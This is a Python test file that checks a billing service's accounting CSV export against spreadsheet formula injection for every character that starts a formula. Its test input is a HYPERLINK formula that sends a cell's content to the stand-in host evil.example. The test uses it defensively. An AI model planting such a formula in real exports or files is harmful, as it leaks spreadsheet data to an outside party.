"""Injection into what the programme writes for others to open: spreadsheets and e-mails.

Already proven elsewhere, and not repeated here:
- ESF exports (CSV and XLSX) never start a cell with a formula and keep numbers typed:
  tests/unit/reporting/test_exports.py (test_no_csv_cell_can_start_a_formula,
  test_xlsx_holds_no_formula_and_keeps_types) and tests/reporting/test_exports.py
  (test_the_participant_xlsx_read_back_equals_the_csv_and_formulas_cannot_run).
- E-mail header injection, through the event path (a name and a team name with CR/LF and a
  Bcc: line in enrolment's event): tests/notify/test_emails.py
  (test_a_name_with_a_line_break_adds_no_header), and on the message builder
  tests/unit/notify/test_message.py (test_a_line_break_can_never_add_a_header).

Here: billing's accounting CSV, whose text cells come from other services' events (the
employer's name and address) and from staff input (a credit note's reason), for every
character a spreadsheet reads as the start of a formula.
"""
from __future__ import annotations

import csv
import io

import pytest

from tests.billing.helpers import EMPLOYER, issued_invoice, set_day

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.fixture
def billing(embedded_stack):
    set_day(2019, 5, 10)
    h = embedded_stack.harness("billing")
    yield h
    h.close()


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_no_text_from_outside_can_become_a_formula_in_the_accounting_csv(billing, start):
    h = billing
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    invoice = issued_invoice(h, employer={**EMPLOYER, "name": evil, "address": evil})
    credit = h.client.post(f"/api/invoices/{invoice['invoice_id']}/credit-note", json={"reason": evil})
    assert credit.status_code in (200, 201), credit.get_json()

    response = h.client.get("/api/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))
    assert [r["document_type"] for r in rows] == ["invoice", "credit_note"]
    cells = [rows[0]["buyer_name"], rows[0]["buyer_address"], rows[1]["buyer_name"], rows[1]["description"]]
    for cell in cells:
        # Kept (trimmed of surrounding whitespace or not), but as text: never a formula's start.
        assert not cell.startswith(tuple(FORMULA_STARTS)), repr(cell)
        assert cell in ("'" + evil, evil.strip()), repr(cell)
    # Numbers stay numbers: a credit note's negative amount is not "escaped" into text.
    assert rows[1]["amount_gross"].startswith("-") and float(rows[1]["amount_gross"]) < 0
